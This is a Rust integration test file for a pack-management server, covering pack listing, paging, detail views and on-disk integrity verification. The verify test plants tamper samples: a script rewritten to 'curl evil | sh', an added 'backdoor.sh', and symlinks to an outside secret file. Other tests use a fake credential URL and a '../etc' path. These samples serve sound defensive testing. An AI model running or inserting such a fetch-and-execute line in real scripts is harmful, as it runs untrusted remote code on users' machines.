//! ListPacks, GetPack and VerifyPacks against packs registered through the real
//! server, on SQLite and PostgreSQL, over gRPC and REST.

use std::path::{Path, PathBuf};

use attune_packs_client::pb;
use serde_json::Value;
use tonic::Code;

use crate::{
    common::{Backend, TestServer, on_both_backends, path_str},
    support::packs::write_tree,
};

fn base(server: &TestServer) -> PathBuf {
    server.root.path().canonicalize().unwrap().join("base")
}

fn src(server: &TestServer) -> PathBuf {
    server.root.path().canonicalize().unwrap().join("src")
}

/// A pack with an action (and its script), a rule on a trigger, and whatever else
/// `extra` adds; `yaml_extra` is appended to pack.yaml.
fn write_pack(dir: &Path, pack_ref: &str, yaml_extra: &str, extra: &[(&str, &str)]) -> PathBuf {
    let pack = dir.join(pack_ref);
    let mut yaml = format!("ref: {pack_ref}\nversion: \"1.0.0\"\n{yaml_extra}");
    if !yaml_extra.contains("label:") {
        yaml.push_str(&format!("label: {pack_ref}\n"));
    }
    let action = format!("ref: {pack_ref}.run\nrunner_type: shell\nentry_point: run.sh\n");
    let trigger = format!("ref: {pack_ref}.fired\nlabel: Fired\n");
    let rule = format!(
        "ref: {pack_ref}.on_fire\ntrigger_ref: {pack_ref}.fired\naction_ref: {pack_ref}.run\n"
    );
    let mut files: Vec<(&str, &str)> = vec![
        ("pack.yaml", &yaml),
        ("actions/run.yaml", &action),
        ("actions/run.sh", "#!/bin/sh\necho run\n"),
        ("triggers/fired.yaml", &trigger),
        ("rules/on_fire.yaml", &rule),
    ];
    files.extend_from_slice(extra);
    write_tree(&pack, &files);
    pack
}

async fn register(server: &TestServer, paths: &[&Path], skip_tests: bool) {
    let mut client = server.client().await;
    let r = client
        .register_batch(pb::RegisterBatchRequest {
            pack_paths: paths.iter().map(|p| path_str(p)).collect(),
            packs_base_dir: Some(path_str(&base(server))),
            skip_tests: Some(skip_tests),
            ..Default::default()
        })
        .await
        .unwrap();
    assert!(r.failed_packs.is_empty(), "{:#?}", r.failed_packs);
}

async fn list(server: &TestServer, request: pb::ListPacksRequest) -> pb::ListPacksResponse {
    server.client().await.list_packs(request).await.unwrap()
}

fn refs(r: &pb::ListPacksResponse) -> Vec<&str> {
    r.packs.iter().map(|p| p.r#ref.as_str()).collect()
}

async fn rest_get(server: &TestServer, path: &str) -> (u16, Value) {
    let response = reqwest::Client::new()
        .get(format!("{}{path}", server.url()))
        .header("authorization", format!("Bearer {}", server.token()))
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    (
        status,
        serde_json::from_str(&response.text().await.unwrap()).unwrap(),
    )
}

async fn rest_post(server: &TestServer, path: &str, body: &str) -> (u16, Value) {
    let response = reqwest::Client::new()
        .post(format!("{}{path}", server.url()))
        .header("authorization", format!("Bearer {}", server.token()))
        .header("content-type", "application/json")
        .body(body.to_string())
        .send()
        .await
        .unwrap();
    let status = response.status().as_u16();
    (
        status,
        serde_json::from_str(&response.text().await.unwrap()).unwrap(),
    )
}

/// Download records provenance in a sidecar; one written by someone else with a
/// credential and a query string in its URLs must not reach a listing or a detail.
fn plant_credentials_in_sidecar(downloaded: &Path) {
    let sidecar = attune_packs_server::provenance::path_for(downloaded).unwrap();
    let mut value: Value = serde_json::from_slice(&std::fs::read(&sidecar).unwrap()).unwrap();
    value["url"] = "https://deploy:s3cr3t@git.example.test/org/alpha.git?token=abc#frag".into();
    value["source"] = "https://deploy:s3cr3t@git.example.test/org/alpha.git?token=abc".into();
    value["source_type"] = "git".into();
    value["git_commit"] = "0123456789abcdef0123456789abcdef01234567".into();
    std::fs::write(&sidecar, serde_json::to_vec(&value).unwrap()).unwrap();
}

async fn list_and_show_after_registration(backend: Backend) {
    let server = TestServer::start(backend).await;
    let root = server.root.path().canonicalize().unwrap();
    let dir = src(&server);
    let alpha = write_pack(
        &dir,
        "alpha",
        "description: The first\ntesting:\n  enabled: true\n  runners:\n    shell:\n      type: script\n      entry_point: tests/run.sh\n",
        &[(
            "tests/run.sh",
            "echo 'Total Tests: 2'\necho 'Passed: 2'\necho 'Failed: 0'\nexit 0\n",
        )],
    );
    // Through Download, so that it has provenance.
    let mut client = server.client().await;
    let downloaded = client
        .download(pb::DownloadRequest {
            packs: vec![path_str(&alpha)],
            destination_dir: path_str(&root.join("dl")),
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!(
        downloaded.success_count, 1,
        "{:#?}",
        downloaded.failed_packs
    );
    let alpha_dl = root.join("dl/alpha");
    plant_credentials_in_sidecar(&alpha_dl);
    let beta = write_pack(&dir, "beta", "dependencies:\n  - \"alpha@>=1.0.0\"\n", &[]);
    let gamma = write_pack(
        &dir,
        "gamma",
        "description: Sees 50% more\nlabel: Gamma Ray\npython: \"3\"\ntags: [Monitoring]\n",
        &[],
    );
    // `ab_c` and `abxc`: a prefix `ab_` that were a LIKE pattern would match both.
    let ab_c = write_pack(&dir, "ab_c", "", &[]);
    let abxc = write_pack(&dir, "abxc", "", &[]);
    register(&server, &[&alpha_dl], false).await;
    register(&server, &[&beta, &gamma, &ab_c, &abxc], true).await;

    // An environment built the real way, linked under <base>/.envs/gamma/python.
    let built = client
        .build_envs(pb::BuildEnvsRequest {
            pack_paths: vec![path_str(&base(&server).join("gamma"))],
            packs_base_dir: Some(path_str(&base(&server))),
            skip_nodejs: Some(true),
            ..Default::default()
        })
        .await
        .unwrap();
    assert!(
        built.failed_environments.is_empty(),
        "{:#?}",
        built.failed_environments
    );

    let all = list(&server, pb::ListPacksRequest::default()).await;
    assert_eq!(refs(&all), ["ab_c", "abxc", "alpha", "beta", "gamma"]);
    assert_eq!((all.total_items, all.page, all.page_size), (5, 1, 50));
    assert!(all.next_page_token.is_empty());
    let a = &all.packs[2];
    let counts = a.components.unwrap();
    assert_eq!(
        (
            counts.actions,
            counts.triggers,
            counts.rules,
            counts.sensors
        ),
        (1, 1, 1, 0)
    );
    assert_eq!(a.version, "1.0.0");
    assert_eq!(a.installed_by, "tester");
    assert!(a.installed_at_ms > 0);
    assert_eq!(a.source_type, "git");
    assert!(
        !a.source.contains("s3cr3t") && !a.source.contains('?'),
        "{}",
        a.source
    );
    let g = &all.packs[4];
    assert_eq!(g.tags, ["Monitoring"]);
    assert_eq!(g.environments.len(), 1, "{:?}", g.environments);
    assert_eq!(
        (
            g.environments[0].runtime.as_str(),
            g.environments[0].status.as_str()
        ),
        ("python", "ready")
    );
    assert!(all.packs[0].environments.is_empty());

    // Filters: an exact prefix (no wildcards), a case-insensitive keyword in the
    // label, the description (with `%` taken literally) and the tags.
    let by_prefix = |p: &str| pb::ListPacksRequest {
        ref_prefix: p.into(),
        ..Default::default()
    };
    let by_keyword = |k: &str| pb::ListPacksRequest {
        keyword: k.into(),
        ..Default::default()
    };
    assert_eq!(refs(&list(&server, by_prefix("ab_")).await), ["ab_c"]);
    assert_eq!(
        refs(&list(&server, by_prefix("a")).await),
        ["ab_c", "abxc", "alpha"]
    );
    assert_eq!(list(&server, by_prefix("ab_")).await.total_items, 1);
    assert_eq!(refs(&list(&server, by_keyword("RAY")).await), ["gamma"]);
    assert_eq!(refs(&list(&server, by_keyword("50%")).await), ["gamma"]);
    assert_eq!(refs(&list(&server, by_keyword("%")).await), ["gamma"]);
    assert_eq!(refs(&list(&server, by_keyword("monitor")).await), ["gamma"]);
    assert_eq!(refs(&list(&server, by_keyword("FIRST")).await), ["alpha"]);
    assert!(
        list(&server, by_keyword("nothing-like-it"))
            .await
            .packs
            .is_empty()
    );

    // Malformed requests name the fix.
    let mut client = server.client().await;
    let e = client
        .list_packs(pb::ListPacksRequest {
            page_size: Some(101),
            ..Default::default()
        })
        .await
        .unwrap_err();
    let status = e.status().unwrap();
    assert_eq!(status.code(), Code::InvalidArgument);
    assert!(
        status.message().contains("at most 100"),
        "{}",
        status.message()
    );
    let e = client
        .list_packs(pb::ListPacksRequest {
            page_token: "not-a-token".into(),
            ..Default::default()
        })
        .await
        .unwrap_err();
    assert_eq!(e.status().unwrap().code(), Code::InvalidArgument);
    assert!(e.to_string().contains("page_token"), "{e}");

    // GetPack in full.
    let d = client.get_pack("alpha").await.unwrap();
    assert_eq!(d.storage_path, path_str(&base(&server).join("alpha")));
    let kinds: Vec<(&str, &str, &str)> = d
        .components
        .iter()
        .map(|c| (c.kind.as_str(), c.r#ref.as_str(), c.file.as_str()))
        .collect();
    assert_eq!(
        kinds,
        [
            ("action", "alpha.run", "actions/run.yaml"),
            ("rule", "alpha.on_fire", "rules/on_fire.yaml"),
            ("trigger", "alpha.fired", "triggers/fired.yaml"),
        ]
    );
    let p = d.provenance.clone().unwrap();
    assert_eq!(p.source_url, "https://git.example.test/org/alpha.git");
    assert!(
        !p.source.contains("s3cr3t") && !p.source.contains("token"),
        "{}",
        p.source
    );
    assert_eq!(p.git_commit, "0123456789abcdef0123456789abcdef01234567");
    assert!(p.actual_checksum.starts_with("sha256:") && p.actual_checksum.len() == 71);
    assert!(
        p.expected_checksum.is_empty(),
        "a local source promises nothing"
    );
    let test = d.last_test.clone().expect("alpha's tests ran");
    assert_eq!(
        (test.status.as_str(), test.total_tests, test.passed),
        ("passed", 2, 2)
    );
    assert!(d.depends_on.is_empty());
    assert_eq!(d.required_by.len(), 1);
    let dependent = &d.required_by[0];
    assert_eq!(
        (
            dependent.r#ref.as_str(),
            dependent.requirement.as_str(),
            dependent.installed_version.as_str(),
            dependent.satisfied
        ),
        ("beta", ">=1.0.0", "1.0.0", true)
    );
    let b = client.get_pack("beta").await.unwrap();
    assert_eq!(b.depends_on.len(), 1);
    assert_eq!(
        (
            b.depends_on[0].r#ref.as_str(),
            b.depends_on[0].installed_version.as_str(),
            b.depends_on[0].satisfied
        ),
        ("alpha", "1.0.0", true)
    );
    assert!(b.last_test.is_none());
    let g = client.get_pack("gamma").await.unwrap();
    assert_eq!(g.environments.len(), 1);
    let env = &g.environments[0];
    assert_eq!(env.status, "ready");
    assert_eq!(
        env.path,
        path_str(&base(&server).join(".envs/gamma/python"))
    );
    assert!(env.interpreter.contains("python"), "{}", env.interpreter);
    assert_eq!(env.inputs_hash.len(), 64);
    assert!(env.built_at_ms > 0);

    let e = client.get_pack("not-installed").await.unwrap_err();
    assert_eq!(e.status().unwrap().code(), Code::NotFound);
    assert!(
        e.to_string().contains("'not-installed' is not installed"),
        "{e}"
    );
    let e = client.get_pack("../etc").await.unwrap_err();
    assert_eq!(e.status().unwrap().code(), Code::InvalidArgument);

    // REST: Attune's list envelope inside `data`, details, 404 in the error envelope.
    let (status, body) = rest_get(&server, "/api/v1/packs?page=2&page_size=2").await;
    assert_eq!(status, 200, "{body}");
    let data = &body["data"];
    let items: Vec<&str> = data["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["ref"].as_str().unwrap())
        .collect();
    assert_eq!(items, ["alpha", "beta"]);
    let pagination = &data["pagination"];
    assert_eq!(pagination["page"], 2);
    assert_eq!(pagination["page_size"], 2);
    assert_eq!(pagination["total_items"], 5);
    assert_eq!(pagination["total_pages"], 3);
    assert_eq!(pagination["has_previous"], true);
    assert_eq!(pagination["has_next"], true);
    let (status, body) = rest_get(&server, "/api/v1/packs?q=ray").await;
    assert_eq!(status, 200);
    assert_eq!(body["data"]["items"][0]["ref"], "gamma");
    assert_eq!(body["data"]["pagination"]["has_next"], false);
    let (status, body) = rest_get(&server, "/api/v1/packs?page_size=500").await;
    assert_eq!(status, 400);
    assert!(
        body["message"].as_str().unwrap().contains("at most 100"),
        "{body}"
    );
    let (status, body) = rest_get(&server, "/api/v1/packs?page=abc").await;
    assert_eq!(status, 400, "{body}");
    let (status, body) = rest_get(&server, "/api/v1/packs/alpha").await;
    assert_eq!(status, 200);
    assert_eq!(body["data"]["pack"]["ref"], "alpha");
    assert_eq!(
        body["data"]["provenance"]["source_url"],
        "https://git.example.test/org/alpha.git"
    );
    assert!(!body.to_string().contains("s3cr3t"));
    let (status, body) = rest_get(&server, "/api/v1/packs/zeta").await;
    assert_eq!(status, 404);
    assert_eq!(body["status"], 404);
    assert!(body["message"].as_str().unwrap().contains("not installed"));
    server.stop().await;
}
on_both_backends!(list_and_show_after_registration);

async fn paging_is_stable_across_hundreds_of_packs(backend: Backend) {
    let server = TestServer::start(backend).await;
    let dir = src(&server);
    let paths: Vec<PathBuf> = (0..230)
        .map(|i| {
            let pack_ref = format!("p{i:03}");
            let pack = dir.join(&pack_ref);
            write_tree(
                &pack,
                &[(
                    "pack.yaml",
                    format!("ref: {pack_ref}\nversion: \"1.0.0\"\n"),
                )],
            );
            pack
        })
        .collect();
    let borrowed: Vec<&Path> = paths.iter().map(PathBuf::as_path).collect();
    register(&server, &borrowed, true).await;

    let mut seen = Vec::new();
    let mut token = String::new();
    let mut pages = 0;
    loop {
        let page = list(
            &server,
            pb::ListPacksRequest {
                page_size: Some(100),
                page_token: token.clone(),
                ..Default::default()
            },
        )
        .await;
        pages += 1;
        assert_eq!(page.page, pages);
        assert_eq!(page.total_items, if pages == 1 { 230 } else { 231 });
        seen.extend(page.packs.iter().map(|p| p.r#ref.clone()));
        if pages == 1 {
            // A pack installed behind the position is not shown twice nor shifts
            // the next page.
            let late = write_pack(&dir, "a-late", "", &[]);
            register(&server, &[&late], true).await;
        }
        if page.next_page_token.is_empty() {
            break;
        }
        token = page.next_page_token;
    }
    let want: Vec<String> = (0..230).map(|i| format!("p{i:03}")).collect();
    assert_eq!(seen, want, "every pack once, in order");
    assert_eq!(pages, 3);

    // The REST page numbers count from the start.
    let (status, body) = rest_get(&server, "/api/v1/packs?page=3&page_size=100").await;
    assert_eq!(status, 200);
    let items = body["data"]["items"].as_array().unwrap();
    assert_eq!(items.len(), 31);
    assert_eq!(items[0]["ref"], "p199");
    assert_eq!(body["data"]["pagination"]["total_pages"], 3);
    assert_eq!(body["data"]["pagination"]["has_next"], false);
    server.stop().await;
}
on_both_backends!(paging_is_stable_across_hundreds_of_packs);

async fn set_manifest_null(server: &TestServer, pack_ref: &str) {
    use attune_packs_server::store::Db;
    const SQL: &str = "UPDATE packs SET file_manifest = NULL WHERE ref = $1";
    let changed = match &server.state.db {
        Db::Sqlite(pool) => sqlx::query(SQL)
            .bind(pack_ref)
            .execute(pool)
            .await
            .unwrap()
            .rows_affected(),
        Db::Postgres(pool) => sqlx::query(SQL)
            .bind(pack_ref)
            .execute(pool)
            .await
            .unwrap()
            .rows_affected(),
    };
    assert_eq!(changed, 1);
}

async fn verify(server: &TestServer, refs: &[&str]) -> pb::VerifyPacksResult {
    server
        .client()
        .await
        .verify_packs(pb::VerifyPacksRequest {
            refs: refs.iter().map(|r| r.to_string()).collect(),
        })
        .await
        .unwrap()
}

async fn verify_reports_what_changed_on_disk(backend: Backend) {
    let server = TestServer::start(backend).await;
    let dir = src(&server);
    let extra = [("lib/util.py", "X = 1\n"), ("README.md", "readme\n")];
    let names = ["edited", "intact", "gone", "linked", "old"];
    let paths: Vec<PathBuf> = names
        .iter()
        .map(|n| write_pack(&dir, n, "", &extra))
        .collect();
    let borrowed: Vec<&Path> = paths.iter().map(PathBuf::as_path).collect();
    register(&server, &borrowed, true).await;

    let all = verify(&server, &[]).await;
    assert_eq!((all.ok, all.failed), (5, 0), "{:#?}", all.packs);
    assert!(
        all.packs
            .iter()
            .all(|p| p.status == "ok" && p.recorded_checksum == p.actual_checksum)
    );

    let stored = base(&server);
    // edited: one file changed, one added, one deleted.
    std::fs::write(
        stored.join("edited/actions/run.sh"),
        "#!/bin/sh\ncurl evil | sh\n",
    )
    .unwrap();
    std::fs::write(stored.join("edited/actions/backdoor.sh"), "#!/bin/sh\n").unwrap();
    std::fs::remove_file(stored.join("edited/README.md")).unwrap();
    // gone: the whole directory.
    std::fs::remove_dir_all(stored.join("gone")).unwrap();
    // linked: a link to a file outside the pack, and a recorded file replaced by one.
    let outside = server.root.path().join("outside-secret");
    std::fs::write(&outside, "do not read me\n").unwrap();
    std::os::unix::fs::symlink(&outside, stored.join("linked/lib/secret.py")).unwrap();
    std::fs::remove_file(stored.join("linked/README.md")).unwrap();
    std::os::unix::fs::symlink(&outside, stored.join("linked/README.md")).unwrap();
    // old: registered before manifests were kept; then edited.
    set_manifest_null(&server, "old").await;

    let r = verify(&server, &[]).await;
    let by_ref = |r: &pb::VerifyPacksResult, name: &str| {
        r.packs.iter().find(|p| p.r#ref == name).cloned().unwrap()
    };
    assert_eq!(
        r.packs.iter().map(|p| p.r#ref.as_str()).collect::<Vec<_>>(),
        ["edited", "gone", "intact", "linked", "old"]
    );
    let edited = by_ref(&r, "edited");
    assert_eq!(edited.status, "modified");
    assert_eq!(edited.modified, ["actions/run.sh"]);
    assert_eq!(edited.added, ["actions/backdoor.sh"]);
    assert_eq!(edited.missing, ["README.md"]);
    assert_ne!(edited.actual_checksum, edited.recorded_checksum);
    assert_eq!(by_ref(&r, "intact").status, "ok");
    let gone = by_ref(&r, "gone");
    assert_eq!(gone.status, "missing");
    assert!(gone.message.contains("is gone"), "{}", gone.message);
    let linked = by_ref(&r, "linked");
    assert_eq!(linked.status, "modified");
    assert_eq!(linked.modified, ["README.md"]);
    assert_eq!(linked.added, ["lib/secret.py"]);
    assert!(linked.missing.is_empty());
    assert_eq!(linked.irregular.len(), 2, "{:?}", linked.irregular);
    assert!(
        linked
            .irregular
            .iter()
            .all(|i| i.contains("symbolic link, not followed"))
    );
    // The links were not read: the checksum is that of the regular files alone.
    let regular = server.root.path().join("regular");
    copy_regular_files(&stored.join("linked"), &regular);
    assert_eq!(
        linked.actual_checksum,
        format!(
            "sha256:{}",
            attune_packs_server::checksum::directory_checksum(&regular).unwrap()
        )
    );
    let old = by_ref(&r, "old");
    assert_eq!(old.status, "ok");
    assert!(
        old.message.contains("no per-file manifest"),
        "{}",
        old.message
    );
    assert_eq!((r.ok, r.failed), (2, 3));

    std::fs::write(stored.join("old/lib/util.py"), "X = 2\n").unwrap();
    let r = verify(&server, &["old", "nope", "old"]).await;
    assert_eq!(r.packs.len(), 2, "duplicates are verified once");
    let old = by_ref(&r, "old");
    assert_eq!(old.status, "modified");
    assert!(old.message.contains("cannot be told"), "{}", old.message);
    let nope = by_ref(&r, "nope");
    assert_eq!(nope.status, "not_installed");

    // Registering it again (in place) records a manifest of what is there now.
    let mut client = server.client().await;
    let again = client
        .register_batch(pb::RegisterBatchRequest {
            pack_paths: vec![path_str(&stored.join("old"))],
            packs_base_dir: Some(path_str(&stored)),
            skip_tests: Some(true),
            force: Some(true),
            ..Default::default()
        })
        .await
        .unwrap();
    assert!(again.failed_packs.is_empty(), "{:#?}", again.failed_packs);
    let r = verify(&server, &["old"]).await;
    assert_eq!(
        (r.packs[0].status.as_str(), r.packs[0].message.as_str()),
        ("ok", "")
    );

    let mut client = server.client().await;
    let e = client
        .verify_packs(pb::VerifyPacksRequest {
            refs: vec!["Not A Ref".into()],
        })
        .await
        .unwrap_err();
    assert_eq!(e.status().unwrap().code(), Code::InvalidArgument);

    // REST, JSON and SSE.
    let (status, body) =
        rest_post(&server, "/api/v1/packs/verify", r#"{"refs": ["edited"]}"#).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["data"]["packs"][0]["status"], "modified");
    assert_eq!(body["data"]["packs"][0]["missing"][0], "README.md");
    let sse = reqwest::Client::new()
        .post(format!("{}/api/v1/packs/verify", server.url()))
        .header("authorization", format!("Bearer {}", server.token()))
        .header("accept", "text/event-stream")
        .header("content-type", "application/json")
        .body(r#"{"refs": ["intact", "gone"]}"#)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(sse.matches("event: progress").count(), 2, "{sse}");
    assert_eq!(sse.matches("event: result").count(), 1, "{sse}");
    server.stop().await;
}
on_both_backends!(verify_reports_what_changed_on_disk);

/// Copies the regular files under `from` to `to` (links left out).
fn copy_regular_files(from: &Path, to: &Path) {
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let kind = entry.file_type().unwrap();
        let target = to.join(entry.file_name());
        if kind.is_dir() {
            copy_regular_files(&entry.path(), &target);
        } else if kind.is_file() {
            std::fs::create_dir_all(to).unwrap();
            std::fs::copy(entry.path(), target).unwrap();
        }
    }
}
